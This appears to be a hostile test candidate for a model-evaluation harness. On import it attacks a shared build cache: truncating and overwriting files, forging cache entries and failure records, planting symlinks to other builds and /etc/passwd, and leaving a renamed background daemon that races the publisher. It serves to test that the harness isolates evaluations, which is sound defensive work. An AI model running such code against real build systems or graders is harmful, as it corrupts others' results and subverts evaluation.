"""E11: the build cache: a candidate that tries to change how another
evaluation's build is judged (@ARG@).

  truncate   truncates every file of every published build it can reach
  overwrite  writes over, replaces, removes and chmods them, and renames
             their folders
  plant      creates entries by path: a build under an honest key and under
             a key of its own making, a remembered failure for the honest key
  symlink    fills its own build folder with links into the published builds
             (files and folders, the entry's mark included), for the
             publisher to follow
  race       leaves a daemon that keeps swapping its build folder's files
             for links into the published builds while the result goes out,
             to race the publish

Every attack that gets through raises, so the verdict is not "correct";
check_hostile.py also checks that the honest build's files are unchanged
and that the honest candidate is still judged correct from the cache.
"""
import os
import sys

import torch
import torch.nn as nn

STAGE = "@STAGE@"
ARG = "@ARG@"
STORE = "@CACHE@/store"


def _armed():
    """True in the stage this candidate attacks (tests/hostile/README.md)."""
    try:
        with open("/proc/self/status") as f:
            for line in f:
                if line.startswith("Seccomp_filters:"):
                    return ("run" if int(line.split()[1]) >= 2 else "compile") == STAGE
    except OSError:
        pass
    return STAGE == "compile"


import ctypes
import json
import time


def _walk(top):
    files, dirs = [], []
    for root, ds, fs in os.walk(top):
        dirs += [os.path.join(root, d) for d in ds]
        files += [os.path.join(root, f) for f in fs]
    return files, dirs


def _through(what):
    raise RuntimeError("E11: " + what)


def _try(what, fn):
    try:
        fn()
    except OSError:
        return
    _through(what)


def _write(path, data=b"pwned"):
    with open(path, "wb") as f:
        f.write(data)


def truncate(files, dirs, mine):
    for p in files:
        _try("truncated " + p, lambda: os.truncate(p, 0))

        def opened():
            with open(p, "r+b") as f:
                f.truncate(0)
        _try("opened for writing " + p, opened)


def overwrite(files, dirs, mine):
    for p in files:
        _try("wrote over " + p, lambda: _write(p))
        _try("replaced " + p, lambda: os.replace(os.path.join(mine, "evil"), p))
        _try("removed " + p, lambda: os.unlink(p))
        _try("chmod " + p, lambda: os.chmod(p, 0))
    for d in dirs:
        _try("renamed " + d, lambda: os.rename(d, d + ".old"))
        _try("created in " + d, lambda: _write(os.path.join(d, "planted.so")))


def plant(files, dirs, mine):
    builds = os.path.join(STORE, "builds")
    failed = os.path.join(STORE, "failed")
    keys = [k for k in os.listdir(builds) if len(k) == 64] if os.path.isdir(builds) else []
    for key in keys + ["0" * 64]:
        def entry():
            os.makedirs(os.path.join(builds, key + "x", "ext"))
            _write(os.path.join(builds, key + "x", ".stark-entry"), b"{}")
        _try("planted a build next to " + key, entry)
        _try("planted a failure for " + key, lambda: _write(
            os.path.join(failed, key), json.dumps({"message": "planted", "log": ""}).encode()))
    _try("created the store's folders", lambda: os.makedirs(os.path.join(STORE, "builds", "z")))


def symlink(files, dirs, mine):
    for i, p in enumerate(files):
        try:
            os.symlink(p, os.path.join(mine, "link%d.so" % i))
        except OSError:
            pass
    for i, d in enumerate(dirs + [os.path.join(STORE, "builds"), STORE, "/"]):
        try:
            os.symlink(d, os.path.join(mine, "dir%d" % i))
        except OSError:
            pass
    marks = [p for p in files if p.endswith(".stark-entry")]
    for name in (".stark-entry", "stark-manifest.json"):
        try:
            os.symlink(marks[0] if marks else "/etc/passwd", os.path.join(mine, name))
        except OSError:
            pass
    # A folder whose parts are links: the publisher must not write through them.
    try:
        os.makedirs(os.path.join(mine, "ext"), exist_ok=True)
        if dirs:
            os.symlink(dirs[0], os.path.join(mine, "ext", "into"))
    except OSError:
        pass


def race(files, dirs, mine):
    if os.fork() == 0:
        try:
            os.setsid()     # refused in the run stage: the child stays in the group
        except OSError:
            pass
        if os.fork() == 0:
            ctypes.CDLL(None).prctl(15, b"@TAG@", 0, 0, 0)  # PR_SET_NAME
            targets = (files + dirs)[:64] or ["/etc/passwd"]
            end = time.time() + 60
            while time.time() < end:
                for i, t in enumerate(targets):
                    p = os.path.join(mine, "r%d" % i)
                    try:
                        _write(p, b"x" * 4096)
                        os.replace(p, p + ".tmp") if i % 2 else os.unlink(p)
                        os.symlink(t, p)
                    except OSError:
                        pass
                    for sub in ("ext", "cuda"):
                        q = os.path.join(mine, sub)
                        try:
                            if os.path.islink(q):
                                os.unlink(q)
                            else:
                                os.rename(q, q + ".gone")
                            os.symlink(t if os.path.isdir(t) else os.path.dirname(t), q)
                        except OSError:
                            pass
        os._exit(0)
    time.sleep(0.5)


if _armed():
    import stark_build
    mine = stark_build.state.get("build_dir") or "/tmp"
    # Everything of the cache it can see, but its own build folder.
    files, dirs = _walk(os.path.dirname(STORE))
    files = [p for p in files if not p.startswith(mine + "/")]
    dirs = [d for d in dirs if d != mine and not d.startswith(mine + "/")]
    try:
        _write(os.path.join(mine, "evil"), b"\x7fELF pwned")
    except OSError:
        pass
    {"truncate": truncate, "overwrite": overwrite, "plant": plant, "symlink": symlink,
     "race": race}[ARG](files, dirs, mine)


class ModelNew(nn.Module):
    def __init__(self, scale):
        super().__init__()
        self.scale = scale

    def forward(self, x):
        return x * self.scale + 1.0
